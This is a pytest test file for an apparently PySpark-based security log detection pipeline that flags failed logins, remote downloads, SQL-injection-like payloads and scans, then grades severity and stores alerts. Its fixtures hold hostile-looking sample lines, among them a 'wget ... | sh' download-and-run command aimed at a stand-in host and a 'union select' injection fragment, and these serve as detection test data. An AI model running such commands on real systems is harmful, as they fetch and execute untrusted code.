"""Text rules, label rules and every source and sink, on small files."""

import json

import pytest
from pyspark.sql import functions as F

from watchline.functions import text as X, verdicts as V
from watchline.operators import alerts, catalog, detect
from watchline.sources import csv, events, sinks

SAMPLE = """timestamp,source_ip,hostname,service,message,label
1700000001,172.16.4.9,gate-a,ssh,login failed: invalid user backup,suspicious
1700000005,172.16.4.9,gate-a,ssh,login failed: invalid user www,suspicious
1700000011,172.16.7.30,shop-b,web,wget http://files.test/x.sh | sh,malicious
1700000015,127.0.0.1,shop-b,cron,backup_complete after 14 s,benign
1700000020,172.16.9.2,mail-c,imap,mailbox of rosa opened,benign
1700000027,172.16.9.3,mail-c,auth,sudo: authentication failure for rosa,suspicious
1700000033,172.16.11.8,lab-d,net,masscan seen on port 80,suspicious
1700000040,172.16.11.9,lab-d,system,"first line
second, quoted line",malicious
"""


def flags(spark, *messages):
    df = spark.createDataFrame([(m,) for m in messages], "message string")
    return [r[0] for r in df.select(X.rule_flags(F.col("message"))).collect()]


def test_rule_flags(spark):
    got = flags(spark, "Failed password for INVALID USER x", "sudo: Authentication Failure", "wget x\nhttp://y",
                "curl -s https://y", "sync now", "dst_port=2300", "payload=SELECT a\nfrom b", "payload=union  select", "LOGIN FAILED",
                "tcp_flags=SA dst_port=445", "")
    assert got == [["failed_login", "invalid_user"], ["privilege_escalation"], [], ["remote_download"], ["suspicious_command"],
                   ["high_risk_port"], [], ["sql_injection_like"], ["failed_login"], ["scan_like_tcp", "high_risk_port"], []]


def test_labels(spark):
    cases = {"0": "benign", " Normal ": "benign", "abnormal": "benign", "1": "malicious", "1.0": None, "Mirai botnet": "malicious",
             "anomalous": "suspicious", "an anomaly": "suspicious", "weird": None, "\tTRUE\n": "malicious", "scanner": "malicious"}
    df = spark.createDataFrame([(k,) for k in cases] + [(None,)], "raw string")
    got = {r.raw: r.label for r in df.withColumn("label", V.normalize_label(F.col("raw"))).collect()}
    assert got == {**cases, None: None}


def test_severity_and_escalation(spark):
    rows = [("malicious", 0.85, [], "critical"), ("malicious", 0.84, [], "high"), ("suspicious", 0.9, ["remote_download"], "high"),
            ("suspicious", 0.9, ["recon_tool"], "medium"), ("benign", 1.0, ["remote_download"], "low")]
    df = spark.createDataFrame([(i, *r) for i, r in enumerate(rows)], "i int, l string, c double, f array<string>, want string")
    assert all(r.got == r.want for r in df.withColumn("got", V.severity(F.col("l"), F.col("c"), F.col("f"))).collect())
    up = spark.createDataFrame([("low",), ("high",), ("critical",), ("strange",)], "s string").select("s", V.escalate(F.col("s")).alias("u"))
    assert {r.s: r.u for r in up.collect()} == {"low": "medium", "high": "critical", "critical": "critical", "strange": "medium"}


def test_sample_csv_and_training_rows(spark, tmp_path):
    path = tmp_path / "sample.csv"
    path.write_text(SAMPLE)
    rows = csv.read_labeled_csv(spark, str(path)).collect()
    assert len(rows) == 8 and {r.label for r in rows} == {"benign", "suspicious", "malicious"}
    assert rows[0].text == "login failed: invalid user backup" and rows[0].service == "ssh"
    assert rows[-1].text == "first line\nsecond, quoted line" and rows[-1].label == "malicious"
    first = csv.read_labeled_csv(spark, str(path)).withColumn("t", X.row_text(csv.read_labeled_csv(spark, str(path)))).first()
    assert first.t == ("service=ssh host=gate-a ip=172.16.4.9 message=login failed: invalid user backup "
                       "flags=failed_login invalid_user")


def test_training_without_text_column_does_not_leak_the_label(spark):
    df = spark.createDataFrame([("1", "2", "attack", ""), ("3", None, "0", "h1")], "f1 string, `f.2` string, Class string, Device string")
    rows = csv.normalize_training(df).collect()
    assert [r.text for r in rows] == ["f1=1 f.2=2 Device=", "f1=3 f.2= Device=h1"]
    assert [r.label for r in rows] == ["malicious", "benign"] and [r.hostname for r in rows] == ["unknown", "h1"]
    with pytest.raises(ValueError):
        csv.normalize_training(df.drop("Class"))


def test_paired_csv_keeps_row_order_over_splits(spark, tmp_path):
    n = 20_000
    (tmp_path / "Kit_dataset.csv").write_text("a,b\n" + "\n".join(f"{i},v{i}" for i in range(n)) + "\n")
    (tmp_path / "kit_labels.csv").write_text(",x\n" + "\n".join(f"{i},{i % 3 == 0 and 1 or 0}" for i in range(n)) + "\n")
    old = spark.conf.get("spark.sql.files.maxPartitionBytes")
    spark.conf.set("spark.sql.files.maxPartitionBytes", "30000")
    try:
        rows = csv.read_paired_csv(spark, str(tmp_path / "Kit_dataset.csv"), str(tmp_path / "kit_labels.csv")).collect()
    finally:
        spark.conf.set("spark.sql.files.maxPartitionBytes", old)
    assert len(rows) == n
    for r in rows:
        i = int(r.text.split()[0][2:])
        assert r.text == f"a={i} b=v{i}" and r.label == ("malicious" if i % 3 == 0 else "benign")
    found = csv.discover_sources(spark, str(tmp_path)).collect()
    assert [(r.kind, r.dataset.rsplit("/", 1)[1], r.labels.rsplit("/", 1)[1]) for r in found] == [
        ("paired_csv", "Kit_dataset.csv", "kit_labels.csv")]


def test_paired_csv_of_different_length_fails(spark, tmp_path):
    (tmp_path / "p_dataset.csv").write_text("a\n1\n2\n")
    (tmp_path / "p_labels.csv").write_text("x\n1\n")
    with pytest.raises(Exception, match="different numbers of rows"):
        csv.read_paired_csv(spark, str(tmp_path / "p_dataset.csv"), str(tmp_path / "p_labels.csv")).collect()
    assert csv.paired_label_column(["Unnamed: 0", "flag"]) == "flag" and csv.paired_label_column(["only"]) == "only"
    with pytest.raises(ValueError):
        csv.paired_label_column(["p", "q"])


def test_discovery(spark, tmp_path):
    for name in ("s1/A_dataset.csv", "s1/A_labels.csv", "s1/a_labels.csv", "s2/B_dataset.csv", "s2/zzz_labels.csv", "s3/C_dataset.csv",
                 "s3/d_labels.csv", "s3/e_labels.csv", "plain.csv", "s4/lone_labels.csv"):
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_text("label\n1\n")
    got = {(r.kind, r.dataset.rsplit("/", 1)[1], r.labels and r.labels.rsplit("/", 1)[1]) for r in csv.discover_sources(spark, str(tmp_path)).collect()}
    assert got == {("paired_csv", "A_dataset.csv", "A_labels.csv"), ("paired_csv", "B_dataset.csv", "zzz_labels.csv"),
                   ("single_csv", "C_dataset.csv", None), ("single_csv", "plain.csv", None)}


def test_training_sources_skip_bad_files(spark, tmp_path):
    (tmp_path / "good.csv").write_text(SAMPLE)
    (tmp_path / "bad.csv").write_text("foo,bar\n1,2\n")
    rows, skipped = csv.read_training_sources(spark, str(tmp_path))
    assert rows.count() == 8 and len(skipped) == 1 and "bad.csv" in skipped[0]


def test_text_log(spark, tmp_path):
    (tmp_path / "a.log").write_bytes(b"  first line \n\n   \nt=12.5 se\xffcond\n")
    rows = events.read_text_log(spark, str(tmp_path / "a.log"), time_pattern=r"t=([0-9.]+)").collect()
    assert [(r.message, r.source_ip, r.hostname, r.service) for r in rows] == [
        ("first line", "unknown", "log_host", "log"), ("t=12.5 second", "unknown", "log_host", "log")]
    assert rows[1].timestamp == 12.5 and rows[0].timestamp > 1e9


def test_packets(spark):
    from watchline.schemas import PACKET
    rows = [(1.0, "1.1.1.1", "2.2.2.2", 6, "tcp", 5, 80, "S", b"GET \xff/" + b"x" * 300), (2.0, "1.1.1.1", "2.2.2.2", 17, "udp", 5, 53, None, b"  "),
            (3.0, "1.1.1.1", "2.2.2.2", 1, "icmp", None, None, None, None), (4.0, None, None, None, None, None, None, None, None),
            (5.0, None, None, None, None, None, None, None, b"raw"), (6.0, "1.1.1.1", "2.2.2.2", 47, "gre", None, None, None, None)]
    packets = spark.createDataFrame(rows, PACKET)
    got = events.packets_to_events(packets).collect()
    assert [r.message for r in got] == [
        "dst_ip=2.2.2.2 ip_proto=6 src_port=5 dst_port=80 tcp_flags=S payload=GET /" + "x" * 300,
        "dst_ip=2.2.2.2 ip_proto=17 src_port=5 dst_port=53", "dst_ip=2.2.2.2 ip_proto=1 icmp=true", "payload=raw", "dst_ip=2.2.2.2 ip_proto=47"]
    assert [(r.source_ip, r.service) for r in got] == [("1.1.1.1", "tcp"), ("1.1.1.1", "udp"), ("1.1.1.1", "icmp"), ("unknown", "unknown"), ("1.1.1.1", "unknown")]
    assert events.packets_to_events(packets, payload_limit=200).first().message.endswith(" payload=GET /" + "x" * 194)


def test_ragged_rows_fail(spark, tmp_path):
    (tmp_path / "ragged.csv").write_text("message,label\na,attack\nb,more,attack\n")
    with pytest.raises(Exception, match="MALFORMED|Malformed"):
        csv.read_labeled_csv(spark, str(tmp_path / "ragged.csv")).collect()


def test_ingest_json(spark, tmp_path):
    one = {"source_ip": "a", "hostname": "h", "service": "s", "message": "m"}
    (tmp_path / "in.json").write_text(json.dumps({**one, "timestamp": 5.5}) + "\n" + json.dumps(one) + "\n")
    rows = events.read_events_json(spark, str(tmp_path / "in.json")).orderBy("timestamp").collect()
    assert rows[0].timestamp == 5.5 and rows[1].timestamp > 1e9
    df = spark.createDataFrame([(1, json.dumps([{**one, "timestamp": 1.0}, {**one, "timestamp": 2.0}]))], "id int, value string")
    assert [r.timestamp for r in events.parse_ingest(df).collect()] == [1.0, 2.0]


def test_alert_table_round_trip(spark, tmp_path):
    rows = [(i, i * 90_000_000_000, "a", "h", "ssh", m, label, 0.9, allow) for i, (m, label, allow) in enumerate([
        ("curl http://x", "malicious", False), ("Failed password", "suspicious", False), ("ok", "benign", False), ("trusted_update", "benign", True)])]
    df = spark.createDataFrame(rows, "event_id long, ts_us long, source_ip string, hostname string, service string, message string, predicted_label string, confidence double, allowlisted boolean")
    det = detect.detect(df)
    sinks.write_alerts(det, str(tmp_path / "alerts"))
    kept = sinks.read_alerts(spark, str(tmp_path / "alerts"))
    assert {(r.event_id, r.honeypot_sent, tuple(r.rule_flags)) for r in kept.collect()} == {(0, True, ("remote_download",)), (1, False, ("failed_login",))}
    stats = {(r.kind, r.name): (r.n, r.forwarded) for r in alerts.alert_stats(kept).collect()}
    assert stats[("total", "all")] == (2, 1) and stats[("label", "malicious")] == (1, 1) and stats[("severity", "critical")] == (1, 1)
    for _ in range(2):
        sinks.write_batch(det, 7, str(tmp_path / "b"), str(tmp_path / "out"))
    assert spark.read.parquet(str(tmp_path / "b")).count() == 2 and spark.read.parquet(str(tmp_path / "out")).count() == 1
    assert det.filter("allowlisted").first().explanation == "Allowlisted activity."


def test_allowlist_table(spark):
    ev = spark.createDataFrame([("a",), ("b",)], "source_ip string")
    ips = spark.createDataFrame([("b",), ("b",)], "source_ip string")
    assert {r.source_ip: r.allowlisted for r in detect.mark_allowlisted_by(ev, ips).collect()} == {"a": False, "b": True}


def test_catalogue(spark, tmp_path):
    (tmp_path / "plain.csv").write_text(SAMPLE)
    wide = [f"c{i}" for i in range(20)]
    (tmp_path / "w_dataset.csv").write_text(",".join(wide) + "\n" + "\n".join(",".join(["z" * 130] * 20) for _ in range(7)) + "\n")
    (tmp_path / "w_labels.csv").write_text("x\n" + "\n".join("0011xx1") .replace("\n\n", "\n") + "\n")
    (tmp_path / "n.log").write_text("one\n\ntwo\n")
    got = {r.name: r for r in catalog.scan_datasets(spark, str(tmp_path)).collect()}
    assert (got["plain"].kind, got["plain"].rows, got["plain"].label_column) == ("single_csv", 8, "label")
    assert got["plain"].label_distribution == {"benign": 2, "malicious": 2, "suspicious": 4}
    assert (got["w"].kind, got["w"].rows, got["w"].label_distribution) == ("paired_csv", 7, {"benign": 2, "malicious": 3, "unknown": 2})
    sample = json.loads(got["w"].sample_rows[0])
    assert list(sample) == wide[:11] + ["c19"] and sample["c0"] == "z" * 117 + "..." and len(got["w"].sample_rows) == 5
    assert (got["n"].kind, got["n"].rows) == ("log", 2)


def test_release_deletes_only_own_folders(spark, tmp_path):
    from watchline import storage
    other = f"{spark.sparkContext.getCheckpointDir()}/other"
    spark.range(3).write.parquet(other)
    mine = storage.new_folder(spark, "mine")
    spark.range(3).write.parquet(mine)
    assert spark.read.parquet(mine).count() == 3 and storage.release(spark) >= 1
    with pytest.raises(Exception, match="PATH_NOT_FOUND"):
        spark.read.parquet(mine)
    assert spark.read.parquet(other).count() == 3
